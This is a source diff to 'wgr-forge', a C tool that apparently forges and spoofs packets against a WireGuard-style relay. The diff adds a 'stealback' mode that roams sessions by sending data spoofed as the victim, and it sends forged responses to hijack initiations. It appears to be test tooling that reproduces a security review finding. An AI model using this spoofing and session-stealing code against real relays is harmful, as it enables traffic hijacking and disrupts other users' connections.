@@ -88,8 +88,15 @@
  * it to Z: V's next initiations to Q follow the route there. For SECONDS it keeps
  * that session alive (data from Z every 5 s) and answers every initiation that
  * reaches Z with a response naming V, from Z, and the first data "from" V, so
- * that a staged session of its own is confirmed beside each real one. Prints
- * what it achieved; exits 0.
+ * that a staged session of its own is confirmed beside each real one, with
+ * ANSWERS responses to each (default 1; every one a session on its index).
+ * Prints what it achieved; exits 0.
+ *
+ *   wgr-forge stealback ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS [ANSWERS]
+ *
+ * steal, but Q's half of the staged session is roamed to V's own endpoint (and
+ * kept alive there) by data spoofed "from" V: the route leads V's initiations
+ * back to V (review of 89ac1cf, F1).
  *
  *   wgr-forge fill ADDR PORT SECONDS PPS BPORT NPORTS PUB_TARGET PUB_NAME...
  *
@@ -748,7 +755,7 @@ static int spoofstage(int argc, char **argv)
 }
 
 /* wgr-forge steal: see the top of this file. */
-static int steal(int argc, char **argv)
+static int steal(int argc, char **argv, bool back)
 {
 	uint32_t held[HOLD_MAX], s_index, r_index;
 	uint64_t counter = 1u << 20;
@@ -757,14 +764,16 @@ static int steal(int argc, char **argv)
 	uint8_t q[32], v[32], msg[1600];
 	long seconds, reached = 0, n_held = 0;
 	double start = now_s(), next;
+	long answers = 1;
 	socklen_t len;
 	int z;
 
-	if (argc != 11 || !(len = parse_ep(&to, argv[2], argv[3])) ||
+	if (argc < 11 || argc > 12 || !(len = parse_ep(&to, argv[2], argv[3])) ||
 	    !key_from_base64(q, argv[8]) || !key_from_base64(v, argv[9]) ||
-	    (seconds = strtol(argv[10], NULL, 10)) <= 0 || seconds > 3600) {
-		fprintf(stderr, "usage: wgr-forge steal ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT "
-				"PUB_Q PUB_V SECONDS(1..3600)\n");
+	    (seconds = strtol(argv[10], NULL, 10)) <= 0 || seconds > 3600 ||
+	    (argc == 12 && ((answers = strtol(argv[11], NULL, 10)) < 1 || answers > 4))) {
+		fprintf(stderr, "usage: wgr-forge %s ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT "
+				"PUB_Q PUB_V SECONDS(1..3600) [ANSWERS(1..4)]\n", argv[1]);
 		return 2;
 	}
 	if (spoofer_open(&from_v, argv[4], argv[5], argv[2], argv[3]) ||
@@ -794,10 +803,16 @@ static int steal(int argc, char **argv)
 		ssize_t n;
 
 		if (now_s() >= next) {
-			/* Q's side of every session it holds, from Z: the first one roams. */
+			/*
+			 * Q's side of every session it holds, from Z (the first one
+			 * roams there), or "from" V itself.
+			 */
 			for (long i = 0; i < n_held; i++) {
 				make_data(msg, held[i], counter++);
-				send(z, msg, 32, 0);
+				if (back)
+					spoofer_send(&from_v, msg, 32);
+				else
+					send(z, msg, 32, 0);
 			}
 			next += 5;
 		}
@@ -808,8 +823,10 @@ static int steal(int argc, char **argv)
 			continue;
 		reached++;
 		s_index = get_le32(msg + 4);
-		r_index = make_response(msg, s_index, v);
-		send(z, msg, 92, 0);
+		for (long i = 0; i < answers; i++) {
+			r_index = make_response(msg, s_index, v);
+			send(z, msg, 92, 0);
+		}
 		usleep(100000);
 		make_data(msg, r_index, 0);
 		if (spoofer_send(&from_v, msg, 32))
@@ -1136,8 +1153,8 @@ int main(int argc, char *argv[])
 		return spoof(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "spoofstage"))
 		return spoofstage(argc, argv);
-	if (argc >= 2 && !strcmp(argv[1], "steal"))
-		return steal(argc, argv);
+	if (argc >= 2 && (!strcmp(argv[1], "steal") || !strcmp(argv[1], "stealback")))
+		return steal(argc, argv, !strcmp(argv[1], "stealback"));
 	if (argc >= 2 && (!strcmp(argv[1], "hold") || !strcmp(argv[1], "holdself"))) {
 		long secs = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
 
